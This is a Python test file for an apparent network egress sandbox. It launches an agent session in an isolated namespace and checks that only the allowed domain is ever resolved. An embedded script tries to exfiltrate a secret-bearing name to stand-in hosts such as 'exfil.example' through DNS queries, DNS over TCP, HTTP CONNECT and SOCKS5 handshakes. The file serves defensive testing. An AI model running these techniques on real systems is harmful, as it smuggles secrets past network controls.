# SPDX-License-Identifier: Apache-2.0
"""Names that would carry something out, asked for in every way there is."""

import fcntl
import os
import socket
import struct
import subprocess
import sys
import tempfile

import arena
import servers
from world import Failure, Skip, World

HERE = os.path.dirname(os.path.abspath(__file__))

EXFILTRATION = """
import os, socket, struct, sys
allowed, port = sys.argv[1], int(sys.argv[2])
secret = "c2VjcmV0-of-the-agent"
names = [f"{secret}.exfil.example", f"{secret}.{allowed}", f"{allowed}.{secret}.example", f"{secret}.remit.internal"]
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return os.urandom(2) + b"\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)
for name in names:
    try: socket.getaddrinfo(name, port)
    except OSError: pass
    for kind in (1, 28, 16, 5, 15, 65, 255):
        for server in ("127.0.0.53", "127.0.0.1", "198.18.0.1", "10.0.0.1", "198.18.0.53"):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2)
            try: s.sendto(query(name, kind), (server, 53)); server == "127.0.0.53" and s.recv(512)
            except OSError: pass
    try:
        with socket.create_connection(("127.0.0.53", 53), 2) as s:
            data = query(name, 1); s.sendall(struct.pack(">H", len(data)) + data); s.settimeout(2); s.recv(512)
    except OSError: pass
    for opening in (f"CONNECT {name}:{port} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode(),
                    f"GET http://{name}:{port}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode(),
                    b"\\5\\1\\0\\5\\1\\0\\3" + bytes([len(name)]) + name.encode() + struct.pack(">H", port)):
        try:
            with socket.create_connection(("198.18.0.1", 3128), 2) as s: s.sendall(opening); s.recv(512)
        except OSError: pass
"""


def check(world):
    """In a network of its own, whose only resolver is the test's: it is asked for the allowed name alone."""
    enter = arena.enter()
    probe = subprocess.run([*enter, "true"], capture_output=True, text=True, check=False)
    if probe.returncode != 0:
        raise Skip(f"no network for a name server: {probe.stderr.strip()}")
    done = subprocess.run(
        [*enter, sys.executable, "-B", f"{HERE}/suite.py", "--names", world.binary],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0 or done.stdout.strip() != "held":
        raise Failure(f"{done.stdout.strip()} {done.stderr.strip()[-1500:]}")


def inside(binary):
    """What `check` does, once it has a network of its own."""
    with socket.socket() as probe:
        fcntl.ioctl(probe, 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x40))  # SIOCSIFFLAGS: up and running
    with tempfile.TemporaryDirectory(prefix="remit-egress-") as directory:
        with open(f"{directory}/resolv.conf", "w", encoding="utf-8") as file:
            file.write("nameserver 127.0.0.1\n")
        place = os.path.realpath("/etc/resolv.conf")
        subprocess.run(["mount", "--bind", f"{directory}/resolv.conf", place], check=True)
        server = servers.NameServer("127.0.0.1")
        world = World(binary, directory, resolved=True)
        session = world.session(
            f"curl -sS --max-time 10 --noproxy '*' --cacert ca.pem {world.url(servers.DROP)}; echo\n"
            f"python3 names.py {servers.DROP} {world.port}\n"
            f"curl -sS --max-time 10 --cacert ca.pem {world.url(servers.DROP)}; echo; touch done",
            [world.rule(servers.DROP)], files={"names.py": EXFILTRATION},
        )
        session.run().expect("hello", "hello").expect_only(servers.DROP)
        if set(server.asked) != {servers.DROP}:
            raise Failure(f"the name server was asked for {sorted(set(server.asked))}")
        session.expect_denied("c2vjcmv0-of-the-agent.exfil.example", "name")
    print("held")
